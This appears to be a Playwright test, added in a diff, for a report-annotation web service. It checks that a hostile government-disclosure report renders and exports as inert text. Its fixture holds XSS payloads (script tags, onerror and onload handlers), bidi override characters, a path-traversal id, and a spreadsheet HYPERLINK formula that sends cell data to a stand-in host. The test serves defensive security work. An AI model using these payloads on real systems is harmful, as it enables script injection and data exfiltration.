@@ -1,0 +1,91 @@
+"""A report that would do harm is shown and downloaded as what it is: text."""
+
+import re
+from pathlib import Path
+
+import openpyxl
+from playwright.sync_api import Route, expect
+
+from annotations import formats
+from annotations.report import TaggedReport
+from tests.service.page.conftest import Page
+from tests.service.page.reports import report
+
+EVIL = """=HYPERLINK("http://evil.invalid/?"&A1,"2021年")年度报告<script>window.ran = 1</script>
+一、总体情况
+<script>window.ran = 1</script>全年主动公开政府信息12条。
+<img src="http://evil.invalid/x" onerror="window.ran = 1">通过网站公开信息3条。
+\u202e政务微博公开信息21条\u202c，\u2067收到政府信息公开申请7件\u2069。
+</textarea></p><svg onload="window.ran = 1"><style>*{display:none}</style>没有收到行政复议。
+"""
+SENTENCE = "政务微信公开信息34条。"
+
+
+def many_marks(count: int) -> TaggedReport:
+    """The report with `count` sentences more, a figure in each, as the service would give it."""
+    base = report(EVIL)
+    starts = range(len(base.text), len(base.text) + count * len(SENTENCE), len(SENTENCE))
+    at = SENTENCE.index("34条")
+    figure = {"label": "disclosure.wechat", "text": "34条", "value": 34, "item": None}
+    marks = [
+        base.quantities[0].model_copy(update=figure | {"start": start + at, "end": start + at + 3})
+        for start in starts
+    ]
+    sections = [
+        base.sections[-1].model_copy(
+            update={"label": "proactive", "start": start, "end": start + len(SENTENCE)}
+        )
+        for start in starts
+    ]
+    return base.model_copy(
+        update={
+            "doc_id": "../<b>=1+1",
+            "text": base.text + SENTENCE * count + "\n",
+            "sections": [*base.sections, *sections],
+            "quantities": [*base.quantities, *marks],
+        }
+    )
+
+
+def test_nothing_in_a_report_runs(page: Page, tmp_path: Path) -> None:
+    window, hostile = page.window, many_marks(10_000)
+
+    def answer(route: Route) -> None:
+        route.fulfill(body=hostile.model_dump_json(), content_type="application/json")
+
+    window.route("**/v1/tag", answer)
+    page.paste(EVIL)
+    expect(window.locator("#marked mark")).to_have_count(len(hostile.quantities))
+    assert "".join(window.locator("#marked .line").all_text_contents()) == hostile.text
+    names = window.locator("#marked bdi.mark").evaluate_all("all => all.map(b => b.dataset.name)")
+    assert names == ["U+202E", "U+202C", "U+2067", "U+2069"]
+    for selector in ("script:not([src])", "img", "svg", "style", "[onerror]", "[onload]"):
+        expect(window.locator(selector)).to_have_count(0)
+    page.mark("21条").click()
+    assert not re.search("[\u202a-\u202e\u2066-\u2069]", window.input_value("#sentence"))
+    window.keyboard.press("Escape")
+    assert window.evaluate("() => window.ran") is None
+    _downloads_are_harmless(page, tmp_path, hostile)
+
+
+def _downloads_are_harmless(page: Page, folder: Path, hostile: TaggedReport) -> None:
+    window = page.window
+    workbook = page.download(lambda: window.click("#exports [data-format=xlsx]"), folder)
+    assert workbook.parent == folder
+    cells = [
+        cell
+        for sheet in openpyxl.load_workbook(workbook)
+        for row in sheet.iter_rows()
+        for cell in row
+    ]
+    assert any(str(cell.value).startswith("=HYPERLINK(") for cell in cells)
+    assert {cell.data_type for cell in cells} <= {"s", "n", "d"}
+    tagged = page.download(lambda: window.click("#annotation button"), folder)
+    (document,) = formats.read(tagged)
+    assert document.text == hostile.text
+    assert len(document.quantities) == len(hostile.quantities)
+    saved = page.download(lambda: window.click("#exports [data-format=html]"), folder)
+    other = page.context.new_page()
+    other.goto(saved.as_uri())
+    assert other.evaluate("() => window.ran") is None
+    expect(other.locator("svg, img")).to_have_count(0)
